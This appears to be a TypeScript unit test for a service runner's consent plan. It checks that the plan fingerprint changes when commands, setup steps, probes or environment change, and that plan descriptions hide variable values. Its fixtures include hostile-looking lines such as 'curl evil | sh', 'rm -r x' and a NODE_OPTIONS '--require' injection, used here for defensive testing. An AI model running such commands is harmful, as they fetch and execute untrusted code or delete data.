import assert from 'node:assert/strict';
import { closureOf, describePlan, fingerprintText } from '../../../../src/core/consent/plan';
import type { ServicePlan } from '../../../../src/core/consent/plan';
import type { ServiceSpec } from '../../../../src/core/model/service';
import { probeSpec, serviceSpec } from '../../../support/fakes/specs';

const plan = (spec: Partial<ServiceSpec> = {}, changes: Partial<ServicePlan> = {}): ServicePlan => ({
  spec: serviceSpec('web', { stopCommand: 'make down', setup: [{ name: 'install', command: 'npm ci' }], ...spec }),
  launch: { command: 'npm start', cwd: '/shop/web', env: { A: '1', B: '2' } },
  setup: [{ name: 'install', command: 'npm ci', cwd: '/shop/web', env: {} }],
  ...changes,
});

const base = fingerprintText(plan());

/** Each stands for something that decides what runs, or what it may do. */
const changes: Readonly<Record<string, ServicePlan>> = {
  command: plan({ command: 'curl evil | sh' }),
  'an argument': plan({ command: ['npm', 'start'] }),
  cwd: plan({ cwd: 'other' }),
  env: plan({ env: { NODE_OPTIONS: '--require ./x.js' } }),
  'the name of an env file': plan({ envFiles: ['.env.local'] }),
  'the contents of an env file': plan({}, { launch: { command: 'npm start', cwd: '/shop/web', env: { A: '1', B: '3' } } }),
  'a setup step': plan({ setup: [{ name: 'install', command: 'curl evil | sh' }] }),
  'the condition of a setup step': plan({ setup: [{ name: 'install', command: 'npm ci', unless: 'x' }] }),
  'a variable in a setup step': plan({}, { setup: [{ name: 'install', command: 'npm ci x', cwd: '/shop/web', env: {} }] }),
  'the stop command': plan({ stopCommand: 'rm -r x' }),
  'an exec probe': plan({ probe: probeSpec({ target: { kind: 'exec', command: 'curl evil' } }) }),
  'the address of a probe': plan({ probe: probeSpec({ target: { kind: 'http', address: 'http://10.0.0.1/' } }) }),
  'the headers of a probe': plan({ probe: probeSpec({ headers: { A: 'b' } }) }),
  port: plan({ port: 8001 }),
  'the port conflict policy': plan({ onPortConflict: 'stop' }),
  'the restart policy': plan({ restart: 'always' }),
  'the stop signal': plan({ stopSignal: 'SIGKILL' }),
  'a dependency': plan({ dependsOn: [{ id: 'db', condition: 'healthy' }] }),
  'a command that cannot be resolved any more': plan({}, { launch: undefined }),
  'another folder with the same key': plan({ folder: '/blog' }),
};

describe('core/consent/plan', () => {
  for (const [what, changed] of Object.entries(changes)) {
    it(`gives another fingerprint when ${what} changes`, () => {
      assert.notEqual(fingerprintText(changed), base);
    });
  }

  it('gives the same fingerprint when only the order of variables, the id or what is shown changes', () => {
    const reordered = plan({}, { launch: { command: 'npm start', cwd: '/shop/web', env: { B: '2', A: '1' } } });
    assert.equal(fingerprintText(reordered), base);
    assert.equal(fingerprintText(plan({ id: 'shop/web', folderName: 'x', role: 'frontend', url: 'http://localhost:1/' })), base);
  });

  it('lists dependencies before dependents, each once, and survives circles and unknown ids', () => {
    const on = (...ids: string[]): Partial<ServiceSpec> => ({ dependsOn: ids.map((id) => ({ id, condition: 'healthy' })) });
    const specs = [serviceSpec('web', on('api', 'db')), serviceSpec('api', on('db', 'gone', 'web')), serviceSpec('db')];
    const closure = closureOf(['web', 'api'], (id) => specs.find((spec) => spec.id === id));
    assert.deepEqual(
      closure.map(({ id }) => id),
      ['db', 'api', 'web'],
    );
  });

  it('describes the whole commands and the names of variables, never their values', () => {
    const text = describePlan(
      plan(
        { envFiles: ['.env'], probe: probeSpec({ target: { kind: 'exec', command: 'pg_isready' } }), onPortConflict: 'stop' },
        { launch: { command: ['node', 'a b.js'], cwd: '/shop/web', env: { API_KEY: 'hunter2' } } },
      ),
    );
    assert.equal(
      text,
      [
        'web',
        '  Setup (install): npm ci',
        '  Command: node "a b.js"',
        '  Folder: /shop/web',
        '  Environment variables: API_KEY',
        '  Env files: .env',
        '  Health check: pg_isready',
        '  Stop command: make down',
        '  Port: 8000; a process left over from an earlier run that uses it is ended without a question',
      ].join('\n'),
    );
  });
});
